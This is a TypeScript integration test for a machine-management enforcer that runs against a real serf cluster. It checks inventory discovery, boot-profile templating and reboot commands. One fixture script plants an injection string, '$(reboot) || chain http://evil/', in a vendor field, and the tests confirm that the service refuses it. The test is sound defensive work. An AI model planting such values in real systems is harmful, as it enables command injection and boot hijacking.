// The whole serf path with no fake: real serf agents, the real enforcer binary with --serf, the real handlers.
import assert from "node:assert/strict";
import { chmodSync, existsSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { startEnforcer, type EnforcerProcess } from "../support/enforcer-process.js";
import { startSerfCluster, type SerfNode } from "../support/serf-cluster.js";
import { until } from "../support/until.js";

interface MachineView {
  id: string;
  macs: string[];
  facts: Record<string, unknown>;
  agents?: string[];
  serial?: string;
}

describe("Enforcer with a real serf cluster", { timeout: 120_000 }, () => {
  let nodes: SerfNode[];
  let enf: EnforcerProcess;
  const dir = mkdtempSync(join(tmpdir(), "enforcer-serf-"));
  const marker = join(dir, "rebooted");
  const hostile = join(dir, "hostile-inventory.sh");

  before(async () => {
    // An inventory full of injection attempts (valid JSON, within serf's size limit).
    writeFileSync(
      hostile,
      `#!/bin/sh\nprintf '%s' '{"macs":["52:54:00:00:00:0d"],"serial":"SN ok","vendor":"$(reboot) || chain http://evil/ \${net0/mac}","product":"a\\\\nb","cpus":1}'\n`,
    );
    chmodSync(hostile, 0o755);
    nodes = await startSerfCluster([
      { name: "enforcer" },
      {
        name: "node-b",
        tags: { mac: "52:54:00:00:00:0b" },
        handlers: ["query:inventory=inventory.sh", "query:reboot=reboot.sh"],
        env: { ENFORCER_REBOOT_CMD: `touch ${marker}` },
      },
      { name: "node-d", handlers: [`query:inventory=${hostile}`] },
    ]);
    enf = await startEnforcer(["--serf", `127.0.0.1:${nodes[0]!.rpc}`, "--agent-interval", "1"]);
  });
  after(async () => {
    await enf?.stop();
    await Promise.all((nodes ?? []).map((n) => n.kill()));
  });

  test("members become machines: by mac tag, or by the MACs their inventory reports", async () => {
    const b = await until("node-b as a machine with facts", async () => {
      const r = await enf.api<MachineView>("GET", "/machines/52:54:00:00:00:0b");
      return r.status === 200 && Object.keys(r.body.facts).length > 0 ? r.body : undefined;
    });
    assert.equal(typeof b.facts.cpus, "number");
    assert.deepEqual(b.agents, [`serf:127.0.0.1:${nodes[0]!.rpc}`]);
    // node-d has no mac tag: it is known only through its inventory.
    const d = await until("node-d from its inventory", async () => {
      const r = await enf.api<MachineView>("GET", "/machines/52:54:00:00:00:0d");
      return r.status === 200 ? r.body : undefined;
    });
    assert.equal(d.facts.vendor, "$(reboot) || chain http://evil/ ${net0/mac}", "stored as data, unchanged");
    assert.equal(d.serial, "SN ok");
    const agents = await enf.api<{ items: { id: string; machines: number }[] }>("GET", "/agents");
    assert.equal(agents.body.items[0]!.machines, 2);
  });

  test("a hostile value from an inventory can never reach a boot script", async () => {
    const profile = { name: "uses-vendor", family: "custom", kernel: "http://m/k", cmdline: "v={{vendor}}" };
    await enf.api("POST", "/profiles", profile);
    const c = await enf.api<{ id: string }>("POST", "/configs", {
      machine: "52:54:00:00:00:0d",
      profile: "uses-vendor",
      variables: {},
    });
    // vendor is not a template variable by itself; passing the hostile fact explicitly is refused at arm time.
    const d = await enf.api<MachineView>("GET", "/machines/52:54:00:00:00:0d");
    const c2 = await enf.api<{ id: string }>("POST", "/configs", {
      machine: "52:54:00:00:00:0d",
      profile: "uses-vendor",
      variables: { vendor: String(d.body.facts.vendor) },
    });
    const armed = await enf.api<{ code: string }>("POST", `/configs/${c2.body.id}/arm`);
    assert.deepEqual([armed.status, armed.body.code], [422, "ENF_ERR_IPXE_UNSAFE_VALUE"]);
    assert.equal(
      (await enf.api<{ code: string }>("POST", `/configs/${c.body.id}/arm`)).body.code,
      "ENF_ERR_TEMPLATE_VARIABLE_MISSING",
    );
  });

  test("a reboot command goes through serf: sent, acknowledged by the handler, and the reboot runs", async () => {
    const cmd = await enf.api<{ id: string; state: string }>("POST", "/commands", {
      machine: "52:54:00:00:00:0b",
      type: "reboot",
    });
    assert.equal(cmd.status, 202);
    const done = await until("the command to be acknowledged", async () => {
      const r = await enf.api<{ state: string; detail?: string }>("GET", `/commands/${cmd.body.id}`);
      return ["acknowledged", "failed", "timed-out"].includes(r.body.state) ? r.body : undefined;
    });
    assert.equal(done.state, "acknowledged", JSON.stringify(done));
    assert.match(done.detail ?? "", /^ok [0-9a-f-]{36}$/);
    await until("the reboot command to run", async () => (existsSync(marker) ? true : undefined), 10_000);
    const history = await enf.api<{ items: { kind: string }[] }>("GET", "/machines/52:54:00:00:00:0b/events");
    const kinds = history.body.items.map((e) => e.kind);
    assert.ok(
      ["command.queued", "command.sent", "command.acknowledged"].every((k) => kinds.includes(k)),
      kinds.join(),
    );
  });
});
